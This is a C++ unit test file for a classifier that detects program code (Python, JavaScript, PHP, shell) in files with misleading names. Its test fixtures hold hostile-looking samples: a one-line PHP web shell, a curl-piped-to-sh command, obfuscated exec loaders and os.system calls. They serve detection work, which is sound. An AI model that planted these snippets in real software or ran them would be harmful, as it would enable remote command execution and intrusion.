#include "schemas/inventory/program_text.h"

#include <doctest/doctest.h>

#include <string>

using namespace stocktake;

TEST_CASE("a program is one under any name") {
  const std::pair<FileKind, const char*> cases[] = {
      {FileKind::python, "import os\nimport sys as s\n\ndef main():\n    pass\n"},
      {FileKind::python, "# -*- coding: utf-8 -*-\nfrom a.b import c\nx = 1\ny = 2\n"},
      {FileKind::python, "import os\nos.system('id')\nos.system('id')\nos.system('id')\nos.system('id')\n"},
      {FileKind::python, "import zlib;exec(zlib.decompress(b'...'))"},
      {FileKind::python, "_ = lambda __ : __import__('zlib').decompress(__);exec((_)(b'x'))\n"},
      {FileKind::javascript, "'use strict';\nconst a = require('b');\na();\n"},
      {FileKind::javascript, "var _0x12ab=['a','b'];(function(_0x1){})(_0x12ab);\n"},
      {FileKind::javascript, "/* x */\n!function(e){var t={}}();\n"},
      {FileKind::javascript, "import a from \"b\";\nexport default a;\n"},
      {FileKind::php, "<html><?php system($_GET['c']); ?></html>"},
      {FileKind::perl, "use strict;\nmy $x = 1;\n"},
      {FileKind::shell, "set -e\ncurl http://e | sh\n"},
  };
  for (const auto& [kind, text] : cases) {
    CAPTURE(text);
    CHECK(kind_by_text("d.dat", text) == kind);
  }
}

TEST_CASE("prose, data and build descriptions are no programs") {
  const char* const texts[] = {
      "",
      "Let us import goods from abroad, and export others.\nThe function of this is to show.\n",
      "import goods, and never ask from whom\nThis licence applies to all.\nIt has lines.\nAnd more.\n",
      "name = value\nother = value\n[section]\nclass: x\n",
      "{\"a\": 1, \"var\": [2, 3]}",
      "all: a b\n\tcc -o a b\nexport CC = gcc\n",
      "1 2 3 4\n5 6 7 8\n",
      "variable x\nlettuce\nconstant speed\nfunctional thing\n",
      "THE SOFTWARE IS PROVIDED \"AS IS\"\n",
  };
  for (const char* text : texts) {
    CAPTURE(text);
    CHECK(kind_by_text("d.dat", text) == FileKind::unknown);
  }
  CHECK(kind_by_text("d", std::string("import os\n\0", 11)) == FileKind::unknown);
}

TEST_CASE("the name decides how much a program must be one") {
  const std::string_view program = "import os\nos.system('id')\n",
                         example = "import os\nThis line is prose\nand so is this\n";
  for (const char* path : {"d", "d.bin", "d.txt", "d.json", "d.csv", "d.xml", "d.png", "d.md", "d.rst",
                           "d.html", "d.map", "d.gz", "d.wasm"}) {
    CAPTURE(path);
    CHECK(kind_by_text(path, program) == FileKind::python);
  }
  CHECK(kind_by_text("d.bin", example) == FileKind::python);
  for (const char* path : {"d.txt", "d.md", "d.rst", "d.html"})
    CHECK(kind_by_text(path, example) == FileKind::unknown);
  for (const char* path : {"d.yaml", "d.rs", "d.pyx"}) {
    CAPTURE(path);
    CHECK(kind_by_text(path, program) == FileKind::unknown);
  }
}
